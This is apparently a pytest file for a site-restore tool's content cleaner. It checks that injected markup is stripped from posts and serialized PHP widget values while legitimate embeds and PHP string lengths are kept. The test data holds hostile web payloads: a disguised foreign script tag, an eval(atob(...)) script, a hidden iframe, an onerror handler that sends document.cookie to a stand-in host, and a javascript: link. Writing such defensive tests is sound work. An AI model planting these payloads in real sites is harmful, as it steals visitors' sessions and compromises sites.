"""Injected markup out, everything else byte for byte: scripts and frames from foreign
hosts, inline scripts, event handlers, javascript: links and hidden link blocks go;
the site's own scripts, embed providers and serialized lengths stay right."""

from __future__ import annotations

import pytest

from vpsrescue.dump.phpserialize import dumps, loads
from vpsrescue.restore.content_clean import clean_value

pytestmark = pytest.mark.unit

OWN = {"blog.example.org"}
INJECTED = b'<script src="https://cdn.jsdelivr-cache.example.net/jquery.min.js?v=3.1"></script>'
POST = "<p>本站将于周末进行维护，后台暂停发布。</p>".encode()


def test_a_foreign_script_appended_to_a_post_goes_and_the_text_stays() -> None:
    new, removed = clean_value(POST + INJECTED, OWN)
    assert new == POST and removed == [INJECTED]
    assert clean_value(new, OWN) == (new, [])  # a second pass changes nothing


@pytest.mark.parametrize("dirty,clean", [
    (b"<p>a</p><script>eval(atob('YWxlcnQoMSk='))</script><p>b</p>", b"<p>a</p><p>b</p>"),
    (b'<p>x<iframe src="http://203.0.113.66/f" width=1 height=1></iframe>y</p>',
     b"<p>xy</p>"),
    (b'<img src="a.jpg" onerror="fetch(\'//x.example/\'+document.cookie)" alt="\xe5\x90\x8e">',
     b'<img src="a.jpg" alt="\xe5\x90\x8e">'),
    (b'<a href="javascript:alert(1)">hi</a>', b"<a>hi</a>"),
    (b'<p>t</p><div style="position:absolute;left:-9999px"><a href="http://pills.example/">'
     b"cheap</a></div>", b"<p>t</p>"),
])
def test_each_kind_of_injection_is_removed(dirty: bytes, clean: bytes) -> None:
    assert clean_value(dirty, OWN)[0] == clean


@pytest.mark.parametrize("legit", [
    b'<iframe src="https://www.youtube.com/embed/abc" width="560"></iframe>',
    b'<blockquote class="twitter-tweet"></blockquote><script async '
    b'src="https://platform.twitter.com/widgets.js"></script>',
    b'<script src="http://blog.example.org/wp-content/themes/t/js/menu.js"></script>',
    b'<div style="display:none">no links here</div>',
    b"<p>Turn the lights on=off, display: none of it.</p>",
])
def test_legitimate_embeds_and_look_alikes_stay_byte_identical(legit: bytes) -> None:
    assert clean_value(legit, OWN) == (legit, [])


def test_a_serialized_widget_is_cleaned_string_by_string_with_correct_lengths() -> None:
    widget = {b"2": {b"title": "公告".encode(), b"text": POST + INJECTED, b"filter": False},
              b"_multiwidget": 1}
    raw = dumps({2: widget[b"2"], b"_multiwidget": 1})
    new, removed = clean_value(raw, OWN)
    assert removed == [INJECTED]
    assert loads(new) == {2: {b"title": "公告".encode(), b"text": POST, b"filter": False},
                          b"_multiwidget": 1}
    assert new == raw.replace(INJECTED, b"").replace(
        f"s:{len(POST + INJECTED)}:".encode(), f"s:{len(POST)}:".encode())


def test_a_serialized_string_inside_a_serialized_value_is_cleaned_too() -> None:
    inner = dumps({b"html": POST + INJECTED})
    raw = dumps({b"blob": inner})
    new, removed = clean_value(raw, OWN)
    assert removed == [INJECTED]
    assert loads(loads(new)[b"blob"]) == {b"html": POST}  # type: ignore[index, arg-type]


def test_a_value_that_does_not_unserialize_is_cleaned_as_text() -> None:
    broken = b's:99:"' + POST + INJECTED + b'";'
    assert clean_value(broken, OWN)[0] == b's:99:"' + POST + b'";'
